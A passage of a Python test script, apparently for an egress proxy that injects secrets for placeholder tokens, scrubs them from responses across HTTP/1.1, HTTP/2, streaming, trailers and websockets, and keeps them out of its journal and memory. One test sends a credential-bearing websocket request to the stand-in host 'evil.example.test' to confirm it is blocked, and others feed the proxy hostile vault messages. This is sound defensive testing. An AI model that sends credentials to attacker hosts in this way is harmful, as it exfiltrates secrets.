    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: with Content-Length", body)
    c = Client(rig, "only.example.test").ask("POST /big HTTP/1.1\nHost: only.example.test\nTransfer-Encoding: chunked\n\n")
    for _ in range(16):
        c.s.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
    code, _, body = c.answer()
    tap.ok(code == 413 and b"1 MiB" in body and not rig.only.last("/big"), f"{too_long}: chunked", body)
    big = os.path.join(D, "big")
    r = curl("--http2", "-X", "POST", "-T", "-", "https://only.example.test/big", stdin=big)
    tap.ok(b"\n413" in r.stdout and b"1 MiB" in r.stdout and not rig.only.last("/big"), f"{too_long}: HTTP/2", r.stdout[-300:])


def clean(data, what, expect=CONTROL):
    left = has_any(data, REAL)
    tap.ok(not left, f"{what}: the secret does not come back", left)
    if expect:
        tap.ok(expect.encode() in data, f"{what}: other text comes back", data[:300])


def scrubbed(rig, api):
    for version in ("--http1.1", "--http2"):
        r = curl(version, "-i", *bearer(), "https://api.example.test/v1/mirror")
        clean(r.stdout, f"eleven encodings and the head ({version})")
        tap.ok(r.stdout.count(PH.encode()) >= 2 and base64.b64encode(CONTROL.encode()) in r.stdout,
               f"the placeholder replaces the secret in a response ({version})", r.stdout)
        r = curl(version, *bearer(), "https://api.example.test/v1/trickle")
        clean(r.stdout, f"a byte at a time ({version})")
        tap.ok(f"<{PH}|{CONTROL}>".encode() in r.stdout,
               f"the placeholder replaces the secret in a response a byte at a time ({version})", r.stdout)
        r = curl(version, *bearer(), "https://api.example.test/v1/large")
        clean(r.stdout, f"300 times in half a megabyte ({version})", None)
        tap.ok(split(r)[2] == api.large.replace(REAL.encode(), PH.encode()), f"no other byte of a large response is changed ({version})")
        r = curl(version, *bearer(), "https://api.example.test/v1/lines")
        joined = re.sub(rb"\\r|\\n|[\r\n]", b"", r.stdout)
        clean(joined, f"base64 in lines ({version})", None)
        clean(urllib.parse.unquote_to_bytes(r.stdout), f"percent-encoded in part ({version})")
        tap.ok(joined.count(base64.b64encode(CONTROL[:39].encode())) >= 18 and len(r.stdout.split(b"\n|\n")) == 116,
               f"other text in lines comes back unchanged ({version})", joined[-300:])
        for path in ("/v1/304", "/v1/204"):
            r = curl(version, "-i", *bearer(), f"https://api.example.test{path}")
            tap.ok(path[-3:].encode() in r.stdout and PH.encode() in r.stdout,
                   f"{path}: the head has the placeholder ({version})", r.stdout)
            clean(r.stdout, f"{path} ({version})", None)
        r = curl(version, "-I", *bearer(), "https://api.example.test/v1/x")
        tap.eq(split(r)[0], 200, f"HEAD with a secret is 200 ({version})")
        code, _, body = split(curl(version, *bearer(), "https://api.example.test/v1/gzip"))
        tap.ok(code == 502 and b"encoded" in body, f"an encoded response to a request with a secret is 502 ({version})", body)
        code, _, body = split(curl(version, *bearer("other"), "https://api.example.test/v1/gzip"))
        tap.ok(code == 200 and gzip.decompress(body) == b"other",
               f"(an encoded response to a request without a secret is passed on) ({version})", body)


def streaming(rig, api):
    api.go.clear()
    c = Client(rig, "api.example.test")
    c.ask(f"GET /v1/events HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n").head()
    first = b""
    while not first.endswith(b"\n\n"):
        first += c.chunks()
    tap.eq(first, f"data: {PH}\n\n".encode(), "an event is passed on while the answer goes on, without the secret")
    api.go.set()
    rest = b""
    while True:
        piece = c.chunks()
        if not piece:
            break
        rest += piece
    tap.eq(rest, f"data: {CONTROL}\n\n".encode(), "the event after the secret is passed on")
    c.s.close()


def trailers(rig):
    c = Client(rig, "api.example.test")
    c.ask(f"GET /v1/trickle HTTP/1.1\nHost: api.example.test\nTE: trailers\nAuthorization: Bearer {PH}\n\n").head()
    while int(c.f.readline(), 16) > 0:
        c.f.readline()
    fields = [c.f.readline().decode().strip() for _ in range(2)]
    tap.eq(sorted(fields), [f"x-c: {CONTROL}", f"x-t: {PH}"], "trailers have the placeholder for the secret")
    c.s.close()


def upgrade(rig, api):
    c = Client(rig, "api.example.test")
    head = c.ask(f"GET /v1/ws HTTP/1.1\nHost: api.example.test\nUpgrade: websocket\nConnection: Upgrade\n"
                 f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nSec-WebSocket-Version: 13\n"
                 f"Sec-WebSocket-Extensions: permessage-deflate\nAuthorization: Bearer {PH}\n\n").head()
    got = api.last("/v1/ws")
    tap.ok(" 101 " in head and token_of(got) == REAL and not got.get("sec-websocket-extensions"),
           "a websocket's handshake is rendered, without compression", head)
    tap.eq([ht.ws_read(c.f), ht.ws_read(c.f)], [PH, CONTROL + "ghp"], "the frames of a websocket have the placeholder for the secret")
    c.s.sendall(ht.ws_frame(b"bye"))
    c.s.close()
    code, _, _ = Client(rig, "evil.example.test").ask(
        f"GET /ws HTTP/1.1\nHost: evil.example.test\nUpgrade: websocket\nConnection: Upgrade\n"
        f"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\nAuthorization: Bearer {PH}\n\n").answer()
    tap.eq(code, 403, "a websocket with a placeholder to another host is 403")


def http2(rig):
    code, version, body = split(curl("--http2", *bearer(), f"https://h2.example.test/x?key={PH}"))
    tap.ok(code == 200 and version == "2", "a request by HTTP/2 on both sides is 200", body)
    clean(body, "HTTP/2 on both sides", None)
    headers = json.loads(body)["headers"]
    hidden = "*" * len(json.dumps(REAL)[1:-1])  # another length than the placeholder's, for it has a quote
    tap.ok(headers["authorization"] == f"Bearer {hidden}" and headers[":path"].startswith("/x?key=*"),
           "an HTTP/2 server received the secret in header and query", headers)
    procs = [subprocess.Popen(["curl", "-sS", "--http2", "--cacert", TRUST, "-Z", "--no-progress-meter", "--max-time", str(int(PATIENCE))] +
                              list(bearer()) + [f"https://h2.example.test/p{i}" for i in range(20)],
                              stdout=subprocess.PIPE) for _ in range(3)]
    outs = [p.communicate(timeout=PATIENCE * 2)[0] for p in procs]
    tap.ok(all(o.count(hidden.encode()) == 20 and not has_any(o, REAL) for o in outs),
           "60 requests with a secret at once come back without it", outs[0][:300])


def again(rig, api):
    """A connection that the server has ended meanwhile: another one, and the vault is asked again."""
    api.once = threading.Event()
    asked = len(rig.vault.requests)
    for i in range(3):
        code, _, body = split(curl("--http1.1", *bearer(), "https://api.example.test/v1/once"))
        tap.ok(code == 200 and body == PH.encode(), f"request {i} over connections that end is rendered", body)
    mine = rig.vault.requests[asked:]
    tap.ok(len(mine) >= 3 and set(mine) == {(7, "api.example.test", 443, "/v1/once")},
           "the vault was asked for each request, with host, port and path", mine)


def without_vault(rig, api):
    rig.vault.refuse = "it has expired"
    code, _, body = split(curl(*bearer(), "https://api.example.test/v1/expired"))
    tap.ok(code == 403 and b"it has expired" in body and not api.last("/v1/expired"),
           "a secret that the vault refuses is 403 with the reason", body)
    rig.vault.refuse = None
    rig.vault.hold = True
    c = Client(rig, "api.example.test")
    c.ask(f"GET /v1/late HTTP/1.1\nHost: api.example.test\nAuthorization: Bearer {PH}\n\n")
    wait_for("the question", lambda: rig.vault.held)
    rig.vault.close()
    code, _, body = c.answer()
    tap.ok(code == 503 and b"vault" in body and not api.last("/v1/late"),
           "a request is 503 and not sent when the vault dies meanwhile", body)
    code, _, body = split(curl(*bearer(), "https://api.example.test/v1/gone"))
    tap.ok(code == 503 and not api.last("/v1/gone"), "a request with a secret is 503 without a vault", body)
    code, _, _ = split(curl("https://api.example.test/v1/without"))
    tap.ok(code == 200 and api.last("/v1/without"), "a request without a secret is sent without a vault")
    new = FakeVault({17: REAL.encode(), 19: BOT.encode()})
    fd = grants(SECRET.replace(" 7 ", " 17 "), BOT_SECRET.replace(" 9 ", " 19 "))
    kind, _, text = rig.ask(CTL_NEW_VAULT, [fd, new.end.fileno()])
    tap.eq(kind, CTL_OK, f"a new vault is taken {text}")
    rig.vault = new
    code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/new"))
    tap.ok(code == 200 and token_of(api.last("/v1/new")) == REAL, "a new vault is asked by its own handles for the same placeholders")


def hostile_vault(rig):
    """Not that it would; but what it says is checked."""
    for what, data in (("an answer nobody asked for", FakeVault.pack(32, 99, 0, b"x" * 20)), ("bytes", b"\xff" * 40), ("nothing", b"x")):
        v = FakeVault({7: REAL.encode(), 9: BOT.encode()})
        tap.eq(rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])[0], CTL_OK, "a new vault is taken")
        v.end.close()
        v.sock.send(data)
        tap.ok(wait_for("the end of its channel", lambda: not v.is_alive()), f"the channel of a vault that sends {what} is ended")
    v = FakeVault({7: REAL.encode(), 9: BOT.encode()})
    rig.ask(CTL_NEW_VAULT, [grants(SECRET, BOT_SECRET), v.end.fileno()])
    rig.vault = v


def left_behind(rig):
    """Nothing in the journal, nothing in memory once requests are over; and the search can find something."""
    with open(rig.journal_path, "rb") as f:
        journal = f.read()
    tap.ok(not has_any(journal, REAL) and not has_any(journal, BOT), "the journal has no secret")
    uses = [e for e in rig.lines() if e["ev"] == "secret"]
    tap.ok(uses and {u["secret"] for u in uses} == {"github", "bot"} and all(len(u["digest"]) == 16 for u in uses),
           "each use of a secret is in the journal by its name", uses[:2])
    req = [e for e in rig.lines() if e["ev"] == "request" and e.get("secret") == "github"]
    tap.ok(req, "the journal's line of a request names its secret")
    wait_for("the last exchange", lambda: rig.stats()["inspect"]["requests_now"] == 0)
    found = search(rig.pid, PH, "api.example.test", REAL, BOT)
    tap.ok({PH, "api.example.test"} <= found, "(egress's memory can be searched)", found)
    tap.ok(not found & {REAL, BOT}, "egress's memory has no secret when it is idle", found)


def main():
    api = ht.Origin(CA.cert("api", "api.example.test"), HANDLERS)
    clear = ht.Origin(None, {})
    evil = ht.Origin(CA.cert("evil", "evil.example.test", "rule.example.test"))
    bot = ht.Origin(CA.cert("bot", "bot.example.test"))
    own = ht.Origin(CA.cert("only", "only.example.test", "onlybot.example.test"))
    peek = ht.Origin(CA.cert("peek", "peek.example.test"))
    expired = ht.Origin(CA.cert("expired", "expired.example.test", days=-1))
    wrong = ht.Origin(CA.cert("wrong", "another.example.test"))
    node = ht.node_h2(CA.cert("h2", "h2.example.test"))
    vault = FakeVault({7: REAL.encode(), 9: BOT.encode()})
    with Rig(POLICY, store=CA.pem, secrets=grants(SECRET, BOT_SECRET), vault=vault) as rig:
        with open(TRUST, "w", encoding="ascii") as f:
            f.write(rig.ca)
        rig.evil, rig.bot, rig.only = evil, bot, own
        for host, server in (("api", api), ("evil", evil), ("bot", bot), ("only", own), ("onlybot", own), ("expired", expired), ("wrong", wrong),
                             ("h2", node), ("rule", evil), ("peek", peek)):
            rig.dial[f"{host}.example.test"] = server.addr
        rig.dial[("api.example.test", 80)] = clear.addr
        rendered(rig, api)
        bodies(api)
        many_bodies(rig, api)
        refused(rig, api)
        refused_bodies(rig, api)
        second_paths(rig, api)
        new_policy(rig, api)
        unverified(rig)
        only(rig)
        only_elsewhere(rig)
        scrubbed(rig, api)
        streaming(rig, api)
        trailers(rig)
        upgrade(rig, api)
        http2(rig)
        again(rig, api)
        code, _, _ = split(curl(*bearer(), "https://peek.example.test/x"))
        tap.ok(code == 200 and token_of(peek.last("/x")) == REAL, "a host that a secret is bound to is looked into")
        left_behind(rig)
        without_vault(rig, api)
        hostile_vault(rig)
        code, _, _ = split(curl(*bearer(), "https://api.example.test/v1/last"))
        tap.eq(code, 200, "a request with a secret is sent after hostile vaults")
    node.close()
    tap.done()


main()
